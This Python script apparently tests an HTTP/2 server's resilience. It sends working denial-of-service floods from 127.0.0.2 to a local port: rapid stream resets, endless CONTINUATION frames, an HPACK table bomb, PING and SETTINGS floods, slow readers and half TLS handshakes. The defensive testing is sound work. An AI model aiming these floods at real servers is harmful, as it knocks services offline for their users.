"""What is cheap to send and dear to serve, most of it frames of HTTP/2, from 127.0.0.2: `floods.py PORT SECONDS CONNECTIONS [FLOOD]`.

Each connection sends the flood until it is ended, and comes again; where none is named, all of them are sent, by a share of
the connections each. Standard library only, and one thread: what an attacker with one core can do. Prints how many
connections were ended with which error, as JSON; without arguments the floods that there are, a line each. The tests have
the same list, in `tests/it/greedy/floods.rs`.
"""

import asyncio
import collections
import json
import random
import ssl
import sys
import time

HOST = "api.bench.test"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
ENHANCE_YOUR_CALM = 11


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(*pairs):
    # Literals without a name in the table (RFC 7541 section 6.2.2).
    return b"".join(b"\x00" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in pairs)


def head(method, path):
    return fields((":method", method), (":scheme", "https"), (":authority", HOST), (":path", path))


def request(stream, flags, method, path="/"):
    return frame(HEADERS, flags | END_HEADERS, stream, head(method, path))


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(name.to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in pairs))


def bomb(number):
    """An entry of nearly the whole table (RFC 7541 section 2.3.2), and then a byte for each time it is meant."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 if number == 0 else b""
    return frame(HEADERS, END_STREAM | END_HEADERS, odd(number), head("GET", "/") + entry + b"\xbe" * 4000)


def odd(number):
    return 2 * number + 1


def begun(first, more):
    return lambda number: first if number == 0 else more


FLOODS = {
    "ping": lambda n: frame(PING, 0, 0, b"\x07" * 8),
    "settings": lambda n: frame(SETTINGS, 0, 0, b""),
    "settings that move every window": lambda n: frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 0, n & 0xFF])),
    "priority": lambda n: frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 9])),
    "windows byte by byte": lambda n: frame(WINDOW, 0, 0, (1).to_bytes(4, "big")),
    "empty pieces of a body": begun(request(1, 0, "POST"), frame(DATA, 0, 1, b"")),
    "streams begun and given up": lambda n: request(odd(n), END_STREAM, "GET") + frame(RESET, 0, odd(n), (8).to_bytes(4, "big")),
    "streams that the server gives up": lambda n: request(odd(n), 0, "POST") + frame(WINDOW, 0, odd(n), (0x7FFFFFFF).to_bytes(4, "big")),
    "a head without an end": begun(
        frame(HEADERS, END_STREAM, 1, fields((":method", "GET"))), frame(CONTINUATION, 0, 1, fields(("x-more", "more")))
    ),
    "a head of empty pieces": begun(frame(HEADERS, END_STREAM, 1, fields((":method", "GET"))), frame(CONTINUATION, 0, 1, b"")),
    "heads that grow": bomb,
}

# Answers of which nothing is taken: the settings, and what is asked for. They are ended when their time is over.
UNTAKEN = {
    "windows of zero": (settings((4, 0)), b"".join(request(odd(n), END_STREAM, "GET") for n in range(100))),
    "readers that never read": (
        settings((4, 0x7FFFFFFF)) + frame(WINDOW, 0, 0, (0x7FFF0000).to_bytes(4, "big")),
        # Few: what is not read lies with the application too, in memory of the kernel's.
        b"".join(request(odd(n), END_STREAM, "GET", "/1m") for n in range(8)),
    ),
}
HALF_HANDSHAKES = "half handshakes"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A ClientHello that does not go on.
HALF = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
# Longer than anybody waits for an answer to be taken, or for a handshake.
HELD = 70

tls = ssl.create_default_context()
tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
tls.set_alpn_protocols(["h2"])
NAMES = [*FLOODS, *UNTAKEN, HALF_HANDSHAKES]
if len(sys.argv) == 1:
    print(*NAMES, sep="\n")
    sys.exit()
PORT, SECONDS, CONNECTIONS = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
CHOSEN = [NAMES[NAMES.index(sys.argv[4])]] if len(sys.argv) > 4 else NAMES
ended, end = collections.Counter(), time.monotonic() + SECONDS


async def error(reader):
    """The error of the GOAWAY that ends a connection."""
    while True:
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] == GOAWAY:
            return int.from_bytes(payload[4:8], "big")


async def flood(reader, writer, pieces):
    """Sends until somebody has had enough."""
    writer.write(PREFACE + settings())
    waiting = asyncio.ensure_future(error(reader))
    for piece in pieces:
        if waiting.done():
            break
        writer.write(piece)
        await asyncio.wait_for(writer.drain(), 10)
        await asyncio.sleep(0)
    code = await asyncio.wait_for(waiting, 10)
    return "calm" if code == ENHANCE_YOUR_CALM else f"error {code}"


async def hold(reader, writer, said):
    """Says something and then nothing any more, and takes nothing either, for as long as it is let."""
    writer.write(said)
    await asyncio.wait_for(writer.drain(), 10)
    until = min(end, time.monotonic() + HELD)
    # What comes is read by nobody: a transport whose buffer is full stops reading its socket.
    while time.monotonic() < until and not reader.at_eof() and not writer.transport.is_closing():
        await asyncio.sleep(0.5)
    return "held"


async def attack(name, pieces):
    await asyncio.sleep(random.random())
    half = name == HALF_HANDSHAKES
    secure = {} if half else {"ssl": tls, "server_hostname": HOST}
    while time.monotonic() < end:
        writer = None
        try:
            opened = asyncio.open_connection("127.0.0.1", PORT, local_addr=("127.0.0.2", 0), **secure)
            reader, writer = await asyncio.wait_for(opened, 10)
            if half:
                ended[await hold(reader, writer, HALF)] += 1
            elif name in UNTAKEN:
                ended[await hold(reader, writer, PREFACE + b"".join(UNTAKEN[name]))] += 1
            else:
                ended[await flood(reader, writer, pieces)] += 1
        except (OSError, ssl.SSLError, EOFError, asyncio.TimeoutError) as error_:
            ended[type(error_).__name__] += 1
        finally:
            if writer is not None:
                writer.transport.abort()
        # Whoever is sent away comes again, a second later.
        await asyncio.sleep(1)


async def main():
    pieces = {name: [b"".join(of(n) for n in range(p * 250, p * 250 + 250)) for p in range(20)] for name, of in FLOODS.items()}
    sent = [CHOSEN[n % len(CHOSEN)] for n in range(CONNECTIONS)]
    await asyncio.gather(*(attack(name, pieces.get(name)) for name in sent))
    print(json.dumps(ended))


asyncio.run(main())
